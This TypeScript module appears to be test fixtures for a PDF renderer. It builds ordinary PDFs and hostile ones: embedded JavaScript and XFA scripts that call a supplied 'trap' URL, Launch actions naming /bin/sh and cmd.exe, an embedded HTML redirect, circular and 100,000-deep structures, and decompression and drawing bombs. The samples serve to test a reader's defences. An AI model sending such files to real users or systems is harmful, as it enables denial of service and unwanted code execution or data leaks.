/** PDF documents, written here object by object: honest ones, and those that a hostile person would send. */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { constants, deflateRawSync, deflateSync } from 'node:zlib'

const latin = (text: string): Buffer => Buffer.from(text, 'latin1')
const asBuffer = (part: string | Buffer): Buffer => (typeof part === 'string' ? latin(part) : part)

/** A stream object. */
export const stream = (content: Buffer | string, entries = ''): Buffer =>
  Buffer.concat([
    latin(`<<${entries}/Length ${asBuffer(content).length}>>\nstream\n`),
    asBuffer(content),
    latin('\nendstream')
  ])

/** A file of these objects, numbered from 1; the first is the catalog. */
export function pdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [latin('%PDF-1.7\n')]
  let at = 9
  const places = objects.map((object, index) => {
    const part = Buffer.concat([latin(`${index + 1} 0 obj\n`), asBuffer(object), latin('\nendobj\n')])
    parts.push(part)
    at += part.length
    return at - part.length
  })
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  parts.push(
    latin(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`
    )
  )
  return Buffer.concat(parts)
}

const helvetica = '/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>'
/** A band of one colour above a line of text. */
const drawing = (colour: string, text: string): string =>
  `${colour} rg 20 120 260 60 re f 0 g BT /F1 36 Tf 20 40 Td (${text}) Tj ET`

interface OnePage {
  /** Entries of the catalog, of the page, and of the trailer. */
  readonly catalog?: string
  readonly page?: string
  readonly trailer?: string
  readonly content?: Buffer | string
  readonly box?: string
  /** Further objects, from number 5. */
  readonly more?: readonly (string | Buffer)[]
}

/** A document of one page with a red band, unless it has other content. */
export const onePage = ({
  catalog = '',
  page = '',
  trailer = '',
  content = drawing('1 0 0', 'Page 1'),
  box = '0 0 300 200',
  more = []
}: OnePage = {}): Buffer =>
  pdf(
    [
      `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 4 0 R${page.includes('/Resources') ? '' : helvetica}${page}>>`,
      Buffer.isBuffer(content) && content.includes('endstream') ? content : stream(content),
      ...more
    ],
    trailer
  )

/** Pages with a band in red, green and blue in turn. */
export function manyPages(count: number): Buffer {
  const colours = ['1 0 0', '0 1 0', '0 0 1'] as const
  const kids = Array.from({ length: count }, (_, index) => `${index * 2 + 3} 0 R`).join(' ')
  return pdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Kids[${kids}]/Count ${count}>>`,
    ...Array.from({ length: count }, (_, index) => [
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents ${index * 2 + 4} 0 R${helvetica}>>`,
      stream(drawing(colours[index % 3] ?? '0 g', `Page ${index + 1}`))
    ]).flat()
  ])
}

/** Text whose glyphs are found through an encoding of Chinese that only the reader has. */
export function chineseEncoding(): Buffer {
  const font = readFileSync(
    join(
      import.meta.dirname,
      '..',
      '..',
      '..',
      'node_modules',
      'pdfjs-dist',
      'standard_fonts',
      'LiberationSans-Regular.ttf'
    )
  )
  return onePage({
    page: '/Resources<</Font<</F1 5 0 R>>>>',
    content: 'BT /F1 90 Tf 20 60 Td <004100420043> Tj ET',
    more: [
      '<</Type/Font/Subtype/Type0/BaseFont/Liberation/Encoding/UniGB-UCS2-H/DescendantFonts[6 0 R]>>',
      '<</Type/Font/Subtype/CIDFontType2/BaseFont/Liberation/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>/FontDescriptor 7 0 R/CIDToGIDMap/Identity/DW 700>>',
      '<</Type/FontDescriptor/FontName/Liberation/Flags 4/FontBBox[0 -200 1000 900]/ItalicAngle 0/Ascent 900/Descent -200/CapHeight 700/StemV 80/FontFile2 8 0 R>>',
      stream(deflateSync(font), `/Filter/FlateDecode/Length1 ${font.length}`)
    ]
  })
}

/** A black square of 64 × 64 pixels in JBIG2 (ITU T.88): one generic region, coded like a fax (T.6). */
export function blackScan(): Buffer {
  const u32 = (value: number): Buffer =>
    Buffer.from([value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255])
  // White 0, black 64 and 0; then 63 lines like the one before; then the end.
  const bits = `001${'00110101'}${'0000001111'}${'0000110111'}${'11'.repeat(63)}${'000000000001'.repeat(2)}`
  const coded = Buffer.from((bits.match(/.{1,8}/g) ?? []).map((eight) => Number.parseInt(eight.padEnd(8, '0'), 2)))
  const segment = (number: number, type: number, content: Buffer): Buffer =>
    Buffer.concat([u32(number), Buffer.from([type, 0, 1]), u32(content.length), content])
  const size = Buffer.concat([u32(64), u32(64)])
  const scan = Buffer.concat([
    segment(0, 48, Buffer.concat([size, u32(0), u32(0), Buffer.from([0, 0, 0])])),
    segment(1, 38, Buffer.concat([size, u32(0), u32(0), Buffer.from([0, 1]), coded]))
  ])
  return onePage({
    page: '/Resources<</XObject<</I 5 0 R>>>>',
    content: '200 0 0 160 50 20 cm /I Do',
    more: [
      stream(
        scan,
        '/Type/XObject/Subtype/Image/Width 64/Height 64/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode'
      )
    ]
  })
}

/** A page with an image in JPEG 2000, at the whole page. */
export const scanned = (image: Buffer, width: number, height: number): Buffer =>
  onePage({
    page: '/Resources<</XObject<</I 5 0 R>>>>',
    content: '300 0 0 200 0 0 cm /I Do',
    more: [stream(image, `/Type/XObject/Subtype/Image/Width ${width}/Height ${height}/Filter/JPXDecode`)]
  })

const script = (trap: string): string =>
  `<</S/JavaScript/JS(app.alert\\(1\\);app.launchURL\\("${trap}"\\);this.submitForm\\("${trap}"\\);fetch\\("${trap}"\\);globalThis.__executed=1)>>`

/** Documents that run something, or request `trap`, in a reader that lets them. All of them have one red page. */
export const activePdfs = (trap: string): Readonly<Record<string, Buffer>> => ({
  'JavaScript when it opens, closes, prints and is typed into': onePage({
    catalog: `/OpenAction ${script(trap)}/AA<</WC ${script(trap)}/DP ${script(trap)}>>/Names<</JavaScript<</Names[(a) ${script(trap)}]>>>>/AcroForm<</Fields[5 0 R]/CO[5 0 R]>>`,
    page: `/AA<</O ${script(trap)}/C ${script(trap)}>>/Annots[5 0 R]`,
    more: [
      `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(1)/Rect[10 10 90 30]/AA<</K ${script(trap)}/F ${script(trap)}/V ${script(trap)}/C ${script(trap)}/PV ${script(trap)}>>>>`
    ]
  }),
  'links, a program to start and a form to send': onePage({
    catalog: `/OpenAction<</S/URI/URI(${trap})>>/URI<</Base(${trap})>>`,
    page: `/AA<</O<</S/SubmitForm/F<</FS/URL/F(${trap})>>>>>>/Annots[5 0 R 6 0 R 7 0 R 8 0 R]`,
    more: [
      `<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(${trap})>>>>`,
      `<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>>>`,
      `<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/GoToR/F<</FS/URL/F(${trap})>>/D[0/Fit]>>>>`,
      `<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(b)/Rect[0 0 300 200]/A<</S/SubmitForm/F<</FS/URL/F(${trap})>>>>>>`
    ]
  }),
  'content in another place': onePage({
    page: '/Resources<</XObject<</I 5 0 R/R 6 0 R>>/Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>',
    content: `${drawing('1 0 0', 'Page 1')} q 50 0 0 50 0 0 cm /I Do /R Do Q`,
    more: [
      `<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(${trap})>>/Length 0>>\nstream\n\nendstream`,
      stream('', `/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Ref<</F<</FS/URL/F(${trap})>>/Page 0>>`)
    ]
  }),
  'a file in it': onePage({
    catalog: '/Names<</EmbeddedFiles<</Names[(a.html) 5 0 R]>>>>',
    page: '/Annots[7 0 R]',
    more: [
      '<</Type/Filespec/F(a.html)/EF<</F 6 0 R>>>>',
      stream(`<script>location="${trap}"</script>`, '/Type/EmbeddedFile/Subtype/text#2Fhtml'),
      '<</Type/Annot/Subtype/FileAttachment/Rect[0 0 50 50]/FS 5 0 R>>'
    ]
  }),
  'a form of XFA': onePage({
    catalog: '/AcroForm<</Fields[]/XFA[(template) 5 0 R]>>/NeedsRendering true',
    more: [
      stream(
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("${trap}")</script></event><field><ui><button/></ui><value><image href="${trap}"/></value><event activity="click"><submit target="${trap}"/></event></field></subform></template></xdp:xdp>`
      )
    ]
  })
})

const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`

/** Documents that lead a reader in circles or too deep. They may be shown or not. */
export const tangledPdfs: Readonly<Record<string, Buffer>> = {
  'arrays 100,000 deep': onePage({ page: `/Group ${nested(100_000)}`, content: `${nested(100_000)} 0 d` }),
  'pages in a circle': pdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>',
    '<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>'
  ]),
  'objects that are each other': pdf(['<</Type/Catalog/Pages 2 0 R>>', '3 0 R', '2 0 R']),
  'a length that is its own stream': onePage({ content: Buffer.from('<</Length 4 0 R>>\nstream\n0 g\nendstream') }),
  'a form that contains itself': onePage({
    page: '/Resources 6 0 R',
    content: '/A Do',
    more: [
      stream('/A Do /A Do', '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources 6 0 R'),
      '<</XObject<</A 5 0 R>>>>'
    ]
  }),
  'tables of objects in a circle': Buffer.from(
    onePage().toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R/Prev 9'),
    'latin1'
  ),
  'a billion pages': Buffer.from(onePage().toString('latin1').replace('/Count 1', '/Count 999999999'), 'latin1'),
  'a page without a size': onePage({ box: '0 0 0 0' })
}

/** Draws ten times what the next form draws, ten times over: some billion steps in a few kilobytes. */
const forms = (first: number): Buffer[] =>
  Array.from({ length: 10 }, (_, level) =>
    level === 9
      ? stream('0 0 1 1 re f 0 0 1 rg 1 1 2 2 re f', '/Type/XObject/Subtype/Form/BBox[0 0 9 9]')
      : stream(
          '/N Do '.repeat(10),
          `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</N ${first + level + 1} 0 R>>>>`
        )
  )

/** Spaces that unpack to 320 MiB; made from one part, since packing all of them takes a while. */
function packedSpaces(): Buffer {
  const part = deflateRawSync(Buffer.alloc(16 * 1024 * 1024, ' '), { finishFlush: constants.Z_FULL_FLUSH })
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array<Buffer>(20).fill(part), Buffer.from([3, 0])])
}

/** A first page that would fill the memory, and a green second one. */
export function bomb(kind: 'steps' | 'stream'): Buffer {
  const first = kind === 'steps' ? stream('/N Do') : stream(packedSpaces(), '/Filter/FlateDecode')
  return pdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R 5 0 R]/Count 2>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</XObject<</N 7 0 R>>>>>>',
    first,
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 6 0 R${helvetica}>>`,
    stream(drawing('0 1 0', 'Page 2')),
    ...forms(7)
  ])
}

/** 200 inches with a unit of 100 points: half a kilometre. */
export const hugePage = onePage({
  box: '0 0 14400 14400',
  page: '/UserUnit 100',
  content: '1 0 0 rg 0 0 14400 14400 re f'
})
/** Nothing opens it without its password. */
export const encrypted = onePage({
  trailer: `/ID[<${'ab'.repeat(16)}><${'ab'.repeat(16)}>]/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O<${'1f'.repeat(32)}>/U<${'2e'.repeat(32)}>>>`
})
